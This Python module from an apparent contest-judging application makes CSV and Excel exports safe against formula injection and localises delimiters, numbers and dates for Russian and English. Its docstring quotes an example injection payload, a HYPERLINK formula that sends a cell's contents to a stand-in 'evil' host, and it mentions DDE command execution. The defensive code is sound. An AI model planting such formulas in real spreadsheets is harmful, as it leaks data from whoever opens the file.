"""Spreadsheet exports made safe to open: no cell of a CSV file or a workbook is run as a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and Excel also one that starts with a
tab, a carriage return or a line feed, or with the full-width forms of those signs) as a formula: a
participant named ``=HYPERLINK("http://evil/?"&A1,"click")`` would send the table to a stranger, or run a
command through DDE, on the judge's computer. OWASP's "CSV Injection" advice is followed: every text cell that
starts with one of those characters gets a ``'`` in front, and every field is quoted. Numbers (points and
penalties may be negative) stay numbers. A workbook stores every text cell as text (never a formula), marked
with Excel's quote prefix where it starts like a formula, so the name is shown exactly as it was typed.

Every CSV download goes through :func:`csv_response`: one convention, the page's language (``;`` and a decimal
comma in Russian, ``,`` and a decimal point in English), UTF-8 with a BOM, every field quoted and made safe."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime
from typing import IO, Any

from babel.dates import format_datetime
from fastapi.responses import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet reads as the start of a formula (the last four: full-width = + - @)."""


def looks_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: a text that a spreadsheet would run as a formula gets a ``'`` in front;
    anything else (numbers included) is left as it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` with every field quoted and every row's cells passed through ``safe_cell``."""

    def __init__(self, out: IO[str], *, delimiter: str = ",", lineterminator: str = "\r\n") -> None:
        self._w = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([safe_cell(v) for v in row])


def append_safe_row(ws: Any, row: Sequence[Any]) -> None:
    """Append ``row`` to the openpyxl worksheet ``ws`` with every text cell stored as text: openpyxl makes a
    string that starts with ``=`` a formula; here its type is set back to a string, and a text that starts like
    a formula is marked with the quote prefix (Excel keeps it text when the cell is edited)."""
    ws.append(list(row))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if looks_like_formula(cell.value):
                cell.quotePrefix = True


# --- one convention for every CSV download ---------------------------------------------------------------

CSV_DELIMITERS = {"ru": ";", "en": ","}
"""A CSV file follows the page's language, as Excel with that language's regional settings reads it: Russian
``;`` with a decimal comma, English ``,`` with a decimal point."""


def csv_number(value: Any, lang: str) -> Any:
    """A number of a CSV cell in ``lang``: a fraction with a decimal comma in Russian (``1,25``); whole
    numbers (and booleans, texts) as they are."""
    if isinstance(value, float) and not value.is_integer():
        text = f"{value:.6g}" if abs(value) < 1e6 else repr(value)
        return text.replace(".", ",") if lang == "ru" else text
    if isinstance(value, float):
        return int(value)
    return value


def csv_moment(value: datetime, lang: str) -> str:
    """A moment (UTC) in a CSV cell, as a spreadsheet of that language reads it: ``02.12.2026 04:25`` in Russian,
    ``2026-12-02 04:25`` in English."""
    return format_datetime(value, "dd.MM.yyyy HH:mm" if lang == "ru" else "yyyy-MM-dd HH:mm", locale=lang)


def csv_text(rows: Iterable[Iterable[Any]], lang: str) -> str:
    """The rows as CSV text in ``lang``'s convention: its delimiter, every field quoted and made safe
    (:class:`SafeCsvWriter`), fractions with the language's decimal mark."""
    out = io.StringIO()
    w = SafeCsvWriter(out, delimiter=CSV_DELIMITERS.get(lang, ","))
    for row in rows:
        w.writerow([csv_number(v, lang) for v in row])
    return out.getvalue()


def csv_response(rows: Iterable[Iterable[Any]], lang: str, filename: str) -> Response:
    """Every CSV download of the application: :func:`csv_text` in ``lang``, UTF-8 with a BOM (so that Excel
    reads it as UTF-8), as an attachment named ``filename``, never cached."""
    return Response(("\ufeff" + csv_text(rows, lang)).encode("utf-8"), media_type="text/csv; charset=utf-8",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"',
                             "Cache-Control": "no-store"})

